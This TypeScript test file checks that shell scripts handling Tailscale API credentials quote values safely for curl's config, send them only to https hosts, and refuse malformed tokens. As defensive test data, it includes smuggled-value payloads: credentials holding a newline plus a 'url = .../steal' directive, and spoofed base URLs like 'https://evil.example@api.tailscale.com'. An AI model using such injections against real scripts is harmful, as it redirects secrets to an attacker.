// tailnet.sh's and lib.sh's handling of credentials: every value quoted for curl, sent only to an https API, tokens checked.
import assert from "node:assert/strict";
import { execFile, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { HOST_SCRIPTS_DIR } from "../components/hostCommands";
import { fakeTailscale, RAIDER_RECORD, runTailnet } from "./support/tailnetScript";
import { requireTool } from "./support/tools";

test("tailnet.sh quotes every value it hands curl: hostile credentials reach no other URL, and are refused or sent exactly", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const api = await fakeTailscale({ devices: [] });
    const thief = await fakeTailscale({ devices: [] });
    const steal = `a"\nurl = "${thief.url}/steal`;
    try {
        // A newline (or any control character) has no safe spelling in curl's config: refused.
        for (const env of <Record<string, string>[]>[
            { TS_OAUTH_CLIENT_ID: steal, TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" },
            { TS_OAUTH_CLIENT_ID: "cid", TS_OAUTH_CLIENT_SECRET: steal },
            { TS_OAUTH_CLIENT_ID: "cid\r", TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" },
            { TS_API_KEY: steal },
            { TS_API_KEY: "tskey-api-x\tY" },
        ]) {
            const r = await runTailnet({ PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_BASE_URL: api.url, ...env });
            assert.deepEqual(thief.calls, [], `nothing reached another URL: ${JSON.stringify(env)}`);
            assert.notEqual(r.code, 0, `refused: ${JSON.stringify(env)}`);
            assert.match(r.stderr, /newline or another control character|is not an API key/);
        }
        assert.deepEqual(thief.calls, [], "nothing reached another URL");
        assert.deepEqual(api.calls, [], "nothing was sent with a broken value");

        // Quotes, backslashes and spaces are sent exactly, URL-encoded as form fields.
        const id = 'c"i d\\ & x=1 \\"';
        const secret = 'tskey-client-"\\ secret&client_id=evil';
        const r = await runTailnet({
            PULUMI_COMMAND_STDOUT: RAIDER_RECORD,
            TS_BASE_URL: api.url,
            TS_OAUTH_CLIENT_ID: id,
            TS_OAUTH_CLIENT_SECRET: secret,
        });
        assert.equal(r.code, 0, r.stderr);
        assert.equal(api.calls[0], "POST /api/v2/oauth/token ");
        const form = new URLSearchParams(api.bodies[0]);
        assert.deepEqual(
            [...form.entries()],
            [
                ["client_id", id],
                ["client_secret", secret],
            ],
        );
        assert.deepEqual(thief.calls, []);

        // An API key with a quote or backslash is not a key: refused before it reaches a header.
        api.calls.length = 0;
        const quoted = await runTailnet({ PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_BASE_URL: api.url, TS_API_KEY: 'tskey-api-"x\\' });
        assert.notEqual(quoted.code, 0);
        assert.deepEqual(api.calls, []);
    } finally {
        api.close();
        thief.close();
    }
});

test("tailnet.sh sends credentials only to an https API (plain http only to this machine), at no path", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    for (const url of [
        "http://api.example.com",
        "https://api.tailscale.com/../evil",
        "https://evil.example@api.tailscale.com",
        "ftp://x",
        "https://api.tailscale.com\n",
    ]) {
        const r = await runTailnet({ PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_BASE_URL: url, TS_API_KEY: "tskey-api-secret" });
        assert.notEqual(r.code, 0, url);
        assert.match(r.stderr, /tailscale:baseUrl must be https:\/\/<host>\[:port\]/, url);
    }
});

test("tailnet.sh refuses a token from the API that is not one, before it reaches a header", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const thief = await fakeTailscale({ devices: [] });
    const api = await fakeTailscale({ token: `tok"\nurl = "${thief.url}/steal` });
    try {
        const r = await runTailnet({
            PULUMI_COMMAND_STDOUT: RAIDER_RECORD,
            TS_BASE_URL: api.url,
            TS_OAUTH_CLIENT_ID: "cid",
            TS_OAUTH_CLIENT_SECRET: "tskey-client-secret",
        });
        assert.notEqual(r.code, 0);
        assert.match(r.stderr, /returned something that is not a token/);
        assert.deepEqual(api.calls, ["POST /api/v2/oauth/token "], "no call with it");
        assert.deepEqual(thief.calls, []);
    } finally {
        api.close();
        thief.close();
    }
});

test("curl_config_line: what curl reads back from its config is exactly the value, for quotes, backslashes and the like", async (t) => {
    if (!requireTool("curl", "curl", (r) => t.skip(r))) return;
    const api = await fakeTailscale({ devices: [] });
    const lib = fs.readFileSync(path.join(HOST_SCRIPTS_DIR, "lib.sh"), "utf8");
    const values = [
        '"',
        "\\",
        '\\"',
        'a\\"b',
        "x\\",
        '"; url = "http://127.0.0.1:1/steal',
        "\\n\\t\\r",
        "#not a comment",
        "= = =",
        "näive ☃",
        "'single'",
    ];
    try {
        for (const value of values) {
            // Asynchronously: the stand-in API answers from this process.
            const r = await new Promise<{ code: number; stderr: string }>((resolve) =>
                execFile(
                    "bash",
                    [
                        "-c",
                        `${lib}\n{ curl_config_line url "$URL/probe"; curl_config_line header "Authorization: $VALUE"; } | curl -sS -K - -o /dev/null`,
                    ],
                    { env: { PATH: process.env.PATH, LIBVIRT_URI: "test:///default", URL: api.url, VALUE: value }, timeout: 20_000 },
                    (err, _out, stderr) => resolve({ code: err ? 1 : 0, stderr }),
                ),
            );
            assert.equal(r.code, 0, r.stderr);
            // Node reads header bytes as latin1: compare bytes.
            assert.equal(api.calls.pop(), `GET /probe ${Buffer.from(value).toString("latin1")}`, JSON.stringify(value));
        }
        for (const value of ["a\nb", "a\rb", "a\tb", "a\u0000b".replace("\u0000", "\u0001"), "a\u007fb"]) {
            const r = spawnSync("bash", ["-c", `${lib}\ncurl_config_line header "$VALUE"`], {
                encoding: "utf8",
                env: { PATH: process.env.PATH, LIBVIRT_URI: "test:///default", VALUE: value },
            });
            assert.notEqual(r.status, 0, JSON.stringify(value));
            assert.equal(r.stdout, "");
            assert.match(r.stderr, /holds a newline or another control character/);
        }
    } finally {
        api.close();
    }
});
